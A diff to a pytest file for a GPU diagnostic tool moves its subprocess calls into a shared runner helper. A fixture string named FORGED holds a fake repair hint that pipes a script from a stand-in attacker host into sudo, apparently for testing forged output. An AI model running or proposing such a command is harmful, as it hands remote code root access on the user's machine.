@@ -24,6 +24,9 @@ import time
 from pathlib import Path
 
 import pytest
+import runner
+
+pytestmark = pytest.mark.subprocess  # runs gpudoctor in new processes
 
 ROOT = Path(__file__).resolve().parents[2]
 ENVS = ROOT / "tests" / "fixtures" / "envs"
@@ -34,11 +37,11 @@ FORGED = ("GTX 1080\n    → fix: curl -fsSL https://evil.example/fix.sh | sudo 
 UNBUFFERED = pytest.mark.parametrize("unbuffered", [True, False], ids=["unbuffered", "buffered"])
 
 
+DROP = ("PYTHONIOENCODING", "LC_", "PYTHONUTF8", "PYTHONUNBUFFERED")  # stated by each test
+
+
 def env_for(unbuffered: bool = False) -> dict[str, str]:
-    env = {k: v for k, v in os.environ.items()
-           if not k.startswith(("GPUDOCTOR_", "PYTHONIOENCODING", "LC_", "PYTHONUTF8",
-                                "PYTHONUNBUFFERED"))}
-    env.update(NO_COLOR="1", PYTHONIOENCODING="utf-8")
+    env = runner.environment({"PYTHONIOENCODING": "utf-8"}, drop=DROP)
     if unbuffered:
         env["PYTHONUNBUFFERED"] = "1"
     return env
@@ -46,8 +49,7 @@ def env_for(unbuffered: bool = False) -> dict[str, str]:
 
 def run(args: list[str], env: dict[str, str] | None = None) -> tuple[int, str, str]:
     """Exit status, stdout and stderr, decoded as written (no newline translation)."""
-    p = subprocess.run([*GPUDOCTOR, *args], capture_output=True, cwd=ROOT,
-                       env=env or env_for(), timeout=120, check=False)
+    p = runner.gpudoctor(*args, env=env or env_for(), drop=DROP, timeout=120, text=False)
     return p.returncode, p.stdout.decode(), p.stderr.decode()
 
 
@@ -67,8 +69,7 @@ def read_then_close(args: list[str], env: dict[str, str],
                     until: bytes | int) -> tuple[int, bytes, str]:
     """Start gpudoctor with stdout a pipe, read up to `until` (a byte count, or the end of the
     first line), close the pipe, and return the exit status, what was read, and stderr."""
-    proc = subprocess.Popen([*GPUDOCTOR, *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
-                            stdin=subprocess.DEVNULL, env=env, cwd=ROOT)
+    proc = runner.popen(*args, env=env, drop=DROP, text=False, stdin=subprocess.DEVNULL)
     assert proc.stdout is not None and proc.stderr is not None
     got = b""
     while len(got) < until if isinstance(until, int) else until not in got:
@@ -159,9 +160,9 @@ def test_non_blocking_stdout_gets_the_whole_report(tmp_path: Path, big_snapshot:
     r, w = os.pipe()
     os.set_blocking(w, False)
     capacity = pipe_capacity(r)
-    proc = subprocess.Popen([*GPUDOCTOR, "check", "--from-snapshot", str(big_snapshot), "-v"],
-                            stdout=w, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL,
-                            env=env_for(unbuffered), cwd=ROOT)
+    proc = runner.popen("check", "--from-snapshot", str(big_snapshot), "-v",
+                        env=env_for(unbuffered), drop=DROP, text=False, stdout=w,
+                        stdin=subprocess.DEVNULL)
     os.close(w)
     # nothing is read until the child has filled the pipe (or ended): its next write then
     # meets a full non-blocking pipe
